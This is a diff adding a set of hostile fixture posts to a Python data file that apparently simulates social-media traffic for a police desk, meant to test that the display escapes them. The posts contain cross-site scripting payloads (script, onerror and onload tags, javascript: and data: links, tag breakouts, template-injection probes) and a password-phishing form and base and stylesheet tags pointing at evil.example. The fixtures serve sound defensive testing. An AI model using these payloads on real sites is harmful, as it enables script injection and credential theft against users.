@@ -1311,3 +1311,31 @@ SCRIPT: tuple[dict[str, Any], ...] = (
      "text": "Drink-drive checks are taking place across #Northshire tonight. Don't risk it."
      " #DrinkDrive"},
 )  # fmt: skip
+
+#: Posts written to attack whatever shows them: HTML and script in display names, a video's title and
+#: channel, markdown and bare `javascript:` / `data:` links, tags that break out of a textarea or title,
+#: template syntax and already-escaped entities. Made after the day with their own random stream (see
+#: `generate._hostile`), so adding one here changes no other post. `author` is a fixed account, or
+#: "public" for one of the day's people. The desk must show every one of them as the text it is.
+HOSTILE: tuple[dict[str, Any], ...] = (
+    {"at": "09:17", "platform": "x",
+     "author": {"id": "1688000000000000017", "handle": "totally_legit_1",
+                "name": "<img src=x onerror=alert('name')>"},
+     "text": "@NorthshirePolice why does my name break your website lol"},
+    {"at": "11:52", "platform": "x", "author": "public",
+     "text": "@NorthshirePolice the real Benwell statement: [read it](javascript:alert(document.cookie))"
+     " or paste JaVaScRiPt:alert('bare') in your address bar, or open"
+     " data:text/html;base64,PHNjcmlwdD5hbGVydCgnZGF0YScpPC9zY3JpcHQ+"},
+    {"at": "13:05", "platform": "facebook", "author": "public",
+     "text": "</textarea></title><script>alert('breakout')</script><style>body{display:none}</style>"
+     " {{7*7}} ${7*7} &lt;script&gt;alert('entity')&lt;/script&gt; will Northshire Police answer this?"},
+    {"at": "17:34", "platform": "youtube", "kind": "video",
+     "author": {"id": "UCq8hostileQuaysideFoot0", "handle": "quaysidefootage",
+                "name": "<svg onload=alert('channel')>"},
+     "title": "<script>alert('title')</script> Northshire Police fire footage",
+     "text": "<a href=\"javascript:alert('description')\">Northshire Police</a> raw footage of the Quayside fire"
+     " <form action=\"https://evil.example/\"><input name=password placeholder=\"desk password\"></form>"},
+    {"at": "20:12", "platform": "facebook", "author": "public",
+     "text": "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert('meta')\"><base href=\"https://evil.example/\">"
+     "<link rel=stylesheet href=\"https://evil.example/x.css\"> Northshire Police please read"},
+)  # fmt: skip
